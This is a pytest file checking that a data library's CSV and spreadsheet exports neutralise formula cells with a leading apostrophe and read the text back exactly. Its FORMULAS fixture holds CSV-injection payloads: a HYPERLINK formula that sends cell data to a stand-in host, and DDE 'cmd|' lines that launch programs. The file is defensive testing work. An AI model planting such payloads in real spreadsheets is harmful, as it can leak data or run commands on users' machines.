"""Tables written for spreadsheets never carry a formula a spreadsheet would run.

A text cell starting with '=', '+', '-', '@', a tab or a carriage return is
read by Excel, LibreOffice and Google Sheets as a formula ("CSV injection":
``=HYPERLINK(...)`` or ``=cmd|...`` can leak data or run commands). Every
such cell is written with a leading apostrophe, and reading the tables back
gives the original text exactly.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

import hsdata
from hsdata._export._csv import FORMULA_TRIGGERS, read_csv_package, write_csv_package
from hsdata._spreadsheet._reader import unescape_text

from .conftest import read_json, run_cli, write_json

FORMULAS = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already guarded",
    "=1+1\n=2+2",
]


@pytest.fixture
def formulas(package: Path) -> Path:
    """The package with formula-like text in actor and event names (valid data)."""
    actors = read_json(package / "actors.json")
    for n, text in enumerate(FORMULAS):
        actors[n % len(actors)]["name"] = {"en": text, "fr": text}
    write_json(package / "actors.json", actors)
    events = read_json(package / "events.json")
    events[0]["name"]["en"] = FORMULAS[0]
    write_json(package / "events.json", events)
    assert hsdata.validate(package).valid
    return package


def _cells(folder: Path) -> list[str]:
    cells = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells.extend(cell for row in csv.reader(handle) for cell in row)
    return cells


def _dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_TRIGGERS


def test_the_csv_export_guards_every_formula_and_reads_back_exactly(
    formulas: Path, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    run = run_cli("export", "--format", "csv", formulas, out)
    assert run.exit_code == 0, run.output
    cells = _cells(out)
    assert not [c for c in cells if _dangerous(c)]
    for text in FORMULAS:
        assert "'" + text in cells, text
    records = read_csv_package(out)
    names = {a["name"]["en"] for a in records["actor"]}
    assert set(FORMULAS) <= names


def test_write_csv_package_guards_formulas(formulas: Path, tmp_path: Path) -> None:
    write_csv_package(hsdata.load(formulas), tmp_path / "out")
    assert not [c for c in _cells(tmp_path / "out") if _dangerous(c)]


def test_the_spreadsheet_template_stores_formulas_as_text(formulas: Path, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = tmp_path / "filled.xlsx"
    run = run_cli("template", book, "--from", formulas)
    assert run.exit_code == 0, run.output
    workbook = openpyxl.load_workbook(book)
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen.add(unescape_text(cell.value))
    # a carriage return is stored escaped (_x000D_, as Excel does: XML would make it a line feed)
    assert "_x000D_=1+1" in {c.value for s in workbook.worksheets for r in s.iter_rows() for c in r}
    assert set(FORMULAS) - {"'=already guarded"} <= seen


def test_the_csv_spreadsheet_template_guards_formulas_and_imports_back(
    formulas: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "sheets"
    run = run_cli("template", "--format", "csv", folder, "--from", formulas)
    assert run.exit_code == 0, run.output
    assert not [c for c in _cells(folder) if _dangerous(c)]
    out = tmp_path / "imported"
    run = run_cli("import", folder, out)
    assert run.exit_code == 0, run.output
    actors = read_json(out / "actors.json")
    assert set(FORMULAS) <= {a["name"]["en"] for a in actors}
